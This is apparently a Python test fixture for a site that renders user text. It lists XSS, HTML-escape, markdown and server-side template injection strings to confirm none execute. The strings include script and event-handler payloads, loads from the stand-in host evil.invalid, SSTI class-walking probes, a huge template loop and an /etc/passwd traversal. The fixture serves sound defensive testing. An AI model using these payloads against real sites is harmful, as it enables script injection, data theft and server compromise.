"""Texts that attack the site, for every field that takes text.

Each names `HIT`: a script that runs sets it on the window, a fetch asks for it. All of them are
put into every text field of a fictional plan; none may run, load, hide or restyle anything.
"""

HIT = "traff"

ATTACKS: tuple[str, ...] = (
    # Elements that run or load
    f"<script>window.{HIT}=1</script>",
    f"<ScRiPt>window.{HIT}=1</sCrIpT>",
    f"<script src=https://evil.invalid/{HIT}.js></script>",
    f"<img src=x onerror=window.{HIT}=1>",
    f'<img src="https://evil.invalid/{HIT}.png">',
    f"<svg onload=window.{HIT}=1>",
    f"<svg><script>window.{HIT}=1</script></svg>",
    f'<svg><a xlink:href="javascript:window.{HIT}=1"><text y=20>klicka</text></a></svg>',
    f"<body onload=window.{HIT}=1>",
    f'<iframe src="javascript:window.{HIT}=1"></iframe>',
    f"<iframe srcdoc='<script>parent.{HIT}=1</script>'></iframe>",
    f'<object data="https://evil.invalid/{HIT}"></object>',
    f"<embed src=https://evil.invalid/{HIT}>",
    f"<video src=https://evil.invalid/{HIT} onerror=window.{HIT}=1 autoplay></video>",
    f"<audio src=x onerror=window.{HIT}=1></audio>",
    f"<details open ontoggle=window.{HIT}=1>x</details>",
    f"<input autofocus onfocus=window.{HIT}=1>",
    f"<select autofocus onfocus=window.{HIT}=1></select>",
    f"<textarea autofocus onfocus=window.{HIT}=1></textarea>",
    f"<marquee onstart=window.{HIT}=1>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=window.{HIT}=1>",
    f'<math href="javascript:window.{HIT}=1">klicka</math>',
    f'<link rel=stylesheet href="https://evil.invalid/{HIT}.css">',
    f'<link rel="prefetch" href="https://evil.invalid/{HIT}">',
    f'<meta http-equiv=refresh content="0;url=https://evil.invalid/{HIT}">',
    f'<base href="https://evil.invalid/{HIT}/">',
    f'<form action="https://evil.invalid/{HIT}"><button>Skicka</button></form>',
    "<style>*{display:none!important}</style>",
    f"<style>@import url(https://evil.invalid/{HIT}.css)</style>",
    f'<div style="background:url(https://evil.invalid/{HIT})">x</div>',
    '<div style="position:fixed;inset:0;background:#fff">x</div>',
    "<plaintext>",
    '<noscript><p title="</noscript><img src=x onerror=window.traff=1>">',
    "<template><img src=x></template>",
    # Ways out of the place where a text stands
    f'"><script>window.{HIT}=1</script>',
    f"'><script>window.{HIT}=1</script>",
    f'" onmouseover="window.{HIT}=1',
    f"' autofocus onfocus='window.{HIT}=1",
    f"</title><script>window.{HIT}=1</script>",
    f"</textarea><script>window.{HIT}=1</script>",
    f"</style><script>window.{HIT}=1</script>",
    f"</script><script>window.{HIT}=1</script>",
    f"--><script>window.{HIT}=1</script>",
    f"]]><script>window.{HIT}=1</script>",
    "</p></div></main></body></html>",
    "<!-- allt efter det här är borta",
    f"&lt;script&gt;window.{HIT}=1&lt;/script&gt;",
    f"&#60;script&#62;window.{HIT}=1&#60;/script&#62;",
    "&nbsp;&shy;&zwnj;",
    # Markdown
    f"[klicka](javascript:window.{HIT}=1)",
    f"[klicka](data:text/html,<script>window.{HIT}=1</script>)",
    f"![bild](https://evil.invalid/{HIT}.png)",
    f"<javascript:window.{HIT}=1>",
    f"[klicka][1] och [1]: https://evil.invalid/{HIT}",
    f"text {{: onclick=window.{HIT}=1 }}",
    f"{{: style='display:none' id='main' }} {HIT}",
    "~~~ {.python onclick=x} kod ~~~",
    "`</code><script>window.traff=1</script>`",
    "*[HTML]: <script>window.traff=1</script>",
    # Templates and engines
    "{{ config }}",
    "{{ 7 * 7 }}{% raw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include 'main.html' %}",
    "{% for x in range(10 ** 9) %}x{% endfor %}",
    "{# borta #} kvar",
    "${7*7} #{7*7} <%= 7*7 %>",
    '--8<-- "mkdocs.yml"',
    "slot:0",
    "klzzwxh:0000 wzxhzdk:0",
    "../../../../etc/passwd",
)

# What escaping cannot cure, as code points: each is refused at its line.
INVISIBLE: tuple[int, ...] = (
    0x00AD, 0x061C, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B,
    0x202C, 0x202D, 0x202E, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0xFFF9, 0xE0001,
    0xE0041, 0x0007, 0x0008, 0x001B, 0x007F, 0x0085, 0xE000, 0xFE0F,
)  # fmt: skip
